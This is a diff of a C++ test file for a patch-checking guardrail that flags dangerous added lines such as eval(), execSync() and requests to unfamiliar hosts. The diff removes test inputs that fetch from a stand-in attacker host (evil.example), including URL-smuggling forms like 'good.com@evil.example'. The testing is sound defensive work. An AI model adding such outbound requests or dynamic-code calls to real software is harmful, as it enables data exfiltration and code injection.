@@ -3,19 +3,15 @@
 #include <string>
 #include <vector>
 
+#include "core/guardrails/verdicts.hpp"
 #include "support/catch.hpp"
 #include "support/patches.hpp"
 
 using homeostat::test::changed;
+using homeostat::test::danger_in;
 using homeostat::test::patch_of;
 
 namespace {
-
-/// What is dangerous about lines of a file, or "".
-std::string danger_in(const std::vector<std::string>& lines, const std::string& path = "src/a.js") {
-  const auto verdict = homeostat::check_patch({}, patch_of({changed(path, lines)}));
-  return verdict.pass() ? "" : verdict.refusals[0].detail;
-}
 
 bool is_dangerous(const std::string& line, const std::string& path = "src/a.js") {
   return danger_in({"+" + line}, path).starts_with("an added line has ");
@@ -116,30 +112,8 @@ TEST_CASE("the detail names what was found, the line where") {
   const auto verdict = homeostat::check_patch(
       {}, patch_of({changed("src/a.js", {" a", "+b; eval(x); eval(y)", "+execSync(z)"})}));
   REQUIRE(verdict.refusals.size() == 2);
-  CHECK(verdict.refusals[0].detail == "an added line has eval()");
+  CHECK(verdict.refusals[0].detail == "an added line has eval() (changes.dynamic_code)");
   CHECK(verdict.refusals[0].line == 2);
-  CHECK(verdict.refusals[1].detail == "an added line has execSync()");
+  CHECK(verdict.refusals[1].detail == "an added line has execSync() (changes.processes)");
   CHECK(verdict.refusals[1].line == 3);
-}
-
-TEST_CASE("requests to hosts that the file did not know are dangerous") {
-  const std::string found = "an added line has a request to a new host";
-  CHECK(danger_in({"+fetch('https://evil.example/x')"}) == found);
-  CHECK(danger_in({"+fetch(`https://evil.example/${x}`)"}) == found);
-  CHECK(danger_in({"+const u = 'https://evil.example';", "+fetch(u);"}) == found);
-  CHECK(danger_in({"+const u = '//evil.example';", " fetch(u);"}) == found);
-  CHECK(danger_in({"+xhr.open('GET', \"http://evil.example\")"}) == found);
-  CHECK(danger_in({"+new WebSocket('wss://evil.example')"}) == found);
-  CHECK(danger_in({"+requests.get('https://evil.example')"}, "src/a.py") == found);
-  CHECK(danger_in({"-fetch('https://api.good.com/a')",
-                   "+fetch('https://api.good.com.evil.example/a')"}) == found);
-  CHECK(danger_in({"-fetch('https://good.com/a')", "+fetch('https://good.com@evil.example/a')"}) ==
-        found);
-  CHECK(danger_in({"-fetch('https://API.good.com/a')", "+fetch('https://api.good.com/b')"}) == "");
-  CHECK(danger_in({" const base = 'https://api.good.com';", "+fetch('https://api.good.com/b')"}) ==
-        "");
-  CHECK(danger_in({"+fetch('/relative')", "+fetch(url)", "+// a//b"}) == "");
-  CHECK(danger_in({"+// see https://docs.example.org/x"}) == "");
-  CHECK(danger_in({"+svg('http://www.w3.org/2000/svg'); fetch(x)"}) == "");
-  CHECK(danger_in({"+fetch('https://')"}) == "");
 }
